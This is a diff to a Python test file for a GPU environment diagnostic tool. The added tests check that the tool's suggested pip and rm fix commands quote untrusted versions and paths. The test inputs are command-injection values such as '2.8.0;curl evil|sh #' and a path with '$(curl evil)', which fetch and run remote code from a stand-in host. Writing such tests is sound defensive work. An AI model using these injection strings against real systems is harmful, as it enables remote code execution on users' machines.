@@ -12,7 +12,16 @@ from doctor.core.facts import Interface
 from doctor.core.facts.host import NameLookup
 from doctor.core.job import UNKNOWN_HOST, Host
 from doctor.core.settings import Settings
-from doctor.facts import Directory, StorageFacts
+from doctor.facts import (
+    Directory,
+    NcclFacts,
+    NcclLibrary,
+    Package,
+    SettingsFile,
+    SoftwareFacts,
+    StorageFacts,
+    TorchBuild,
+)
 from doctor.session import judge, load_checks
 from doctor.testing import healthy
 
@@ -58,3 +67,42 @@ def test_the_path_of_a_lock_is_quoted(tmp_path: Path, monkeypatch, folder):
     told = CliRunner().invoke(app, ["check", "--gather", "none", "--select", "HOST008"]).output
     fix = next(line.split(maxsplit=1)[1] for line in told.splitlines() if line.strip().startswith("fix "))
     assert fix in (f"rm '{lock}'", "rm LOCK, whose path holds control characters")
+
+
+def fix_of(check_id, sketch):
+    results = judge(sketch.job(), load_checks(Settings()), Settings()).results
+    (found,) = [finding for one in results if one.id == check_id for finding in one.findings]
+    return found.fix
+
+
+EVIL_RELEASE = "2.8.0;curl evil|sh #"
+
+
+def test_the_release_of_a_torch_without_code_for_the_gpu_is_quoted():
+    build = TorchBuild(EVIL_RELEASE, cuda="12.6", architectures=("sm_90",))
+    sketch = healthy(1, 1).alter(SoftwareFacts, torch=build).gpu(0, compute_capability="12.0")
+    assert f"pip install 'torch=={EVIL_RELEASE}' " in fix_of("VER003", sketch)
+
+
+def test_the_release_of_a_lightning_is_quoted():
+    packages = (Package("lightning", EVIL_RELEASE), Package("pytorch-lightning", "2.5.0"))
+    sketch = healthy(1, 1).alter(SoftwareFacts, packages=packages)
+    assert f"pip install 'pytorch-lightning=={EVIL_RELEASE}'`" in fix_of("VER005", sketch)
+
+
+def test_the_release_of_nccl_that_torch_requires_is_quoted():
+    packages = (Package("torch", "2.8.0"), Package("nvidia-nccl-cu12", "2.30.7"))
+    libraries = (NcclLibrary("/env/libnccl.so.2", "2.30.7", "wheel nvidia-nccl-cu12", chosen=True),)
+    build = TorchBuild("2.8.0", cuda="12.8", nccl="2.27.3;curl evil|sh #")
+    sketch = healthy(1, 1).alter(SoftwareFacts, packages=packages, nccl_libraries=libraries, torch=build)
+    assert fix_of("NCCL010", sketch).endswith(" 'nvidia-nccl-cu12==2.27.3;curl evil|sh #'")
+
+
+def test_a_path_in_the_home_folder_that_a_shell_would_read_is_not_pasted():
+    path = '~/$(curl evil)";curl evil|sh;"'
+    sketch = (
+        healthy(1, 1)
+        .environ(NCCL_CONF_FILE=path)
+        .alter(NcclFacts, files=(SettingsFile(path, "user file", exists=False),))
+    )
+    assert "curl" not in fix_of("NCCL002", sketch)
